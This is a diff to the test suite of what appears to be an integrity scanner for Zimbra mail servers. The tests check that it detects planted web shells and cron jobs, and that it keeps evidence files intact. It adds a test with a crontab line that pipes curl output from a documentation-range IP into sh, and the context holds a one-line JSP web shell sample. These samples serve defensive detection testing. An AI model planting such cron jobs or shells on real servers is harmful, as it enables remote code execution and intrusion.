@@ -11,7 +11,7 @@ import pytest
 from tests.integrity.site import NOW, SHIPPED, WEB, package, place, put
 from zmward.catalog.hunt import Hunt
 from zmward.doors.hunted import processes
-from zmward.engine.custody import keep
+from zmward.engine.custody import _moment, keep
 from zmward.engine.hunt import Hunted, hunt
 from zmward.errors import BadFile
 from zmward.integrity.hunting import (
@@ -26,7 +26,9 @@ from zmward.integrity.hunting import (
     process_hits,
     words,
 )
+from zmward.integrity.names import named
 from zmward.integrity.own_jobs import only_shipped
+from zmward.reports.integrity_explained import _when
 
 KEY = 'command="/opt/zimbra/libexec/zmrcd" ssh-rsa AAAAB3Nz mail'
 
@@ -327,6 +329,13 @@ def test_links_and_pipes_are_not_opened(root: Path) -> None:
     assert rules(root) == {page: {"alarm link-out-of-the-web"}}
 
 
+@pytest.mark.parametrize("end", ["| sh", "-A \r| sh", "-A x\r| sh", "\\\r\n| sh"])
+def test_no_carriage_return_cuts_a_job_in_two(end: str) -> None:
+    line = f"* * * * * curl http://203.0.113.66/u {end}\n".encode()
+    path = "/var/spool/cron/crontabs/zimbra"
+    assert "job-fetches-code" in found(Subject(path, 0o600, "zimbra", line))
+
+
 def test_what_was_found_is_kept(root: Path, tmp_path: Path) -> None:
     text = '<% Runtime.getRuntime().exec("id"); %>'
     shell = put(root, f"{WEB}/zimbra/public/x\n.jsp", text)
@@ -355,6 +364,21 @@ def test_what_was_found_is_kept(root: Path, tmp_path: Path) -> None:
     assert custody["host"] == "mail.example.test"
     assert custody["taken"] == NOW.isoformat()
     assert shell.stat().st_atime_ns == 10**18
+
+
+def test_no_name_and_no_time_of_a_file_keeps_it_from_being_kept(
+    root: Path, tmp_path: Path
+) -> None:
+    put(root, f"{WEB}/zimbra/public/{os.fsdecode(bytes([255]))}.jsp", "x")
+    path = f"/{WEB}/zimbra/public/\\xff.jsp"
+    kept = keep(place(root), tmp_path / "evidence", [path], NOW, "0")
+    with tarfile.open(kept.path) as archive:
+        note = archive.extractfile("custody.json")
+        assert note is not None
+        (row,) = json.load(note)["files"]
+        assert named(row["member"]) in archive.getnames()
+    far = 260_000_000_000
+    assert _moment(far * 10**9) == _when(far * 10**9) == f"@{far}"
 
 
 def test_evidence_is_never_overwritten(root: Path, tmp_path: Path) -> None:
